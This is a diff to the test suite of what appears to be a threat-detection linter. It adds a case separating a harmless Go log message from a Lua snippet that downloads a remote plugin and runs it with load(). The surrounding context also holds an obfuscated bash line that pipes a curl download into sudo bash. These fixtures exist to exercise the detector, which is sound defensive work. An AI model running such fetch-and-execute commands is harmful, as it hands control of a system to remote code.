@@ -84,6 +84,12 @@ describe('threat/exfiltration', () => {
 });
 
 describe('threat/download-exec', () => {
+  it('reads "load" inside a message string as a word, while a bare `load` of a download still runs it', () => {
+    const proxy = 'package main\n\nfunc main() {\n\tmux.HandleFunc("/proxy", func(w http.ResponseWriter, r *http.Request) {\n\t\tif _, err := http.DefaultClient.Do(r); err != nil {\n\t\t\tlog.Printf("unable to load upstream page: %v", err)\n\t\t}\n\t})\n}';
+    expect(threats(fence('go', proxy))).toEqual([]);
+    const plugin = 'local http = require("socket.http")\nlocal body = http.request("https://cdn.example.org/plugin.lua")\nlocal chunk = load(body)\nchunk()';
+    expect(threats(fence('lua', plugin))).toEqual(['threat/download-exec 10:1 error']);
+  });
   it('sees through quoting, variables, sudo and line continuations', () => {
     const code = 'U=https://get.tools.example.net/i.sh\nc""url -fsSL "$U" \\\n  | sudo -E /bin/bash -s --';
     expect(threats(fence('bash', code))).toEqual(['threat/download-exec 10:5 error']);
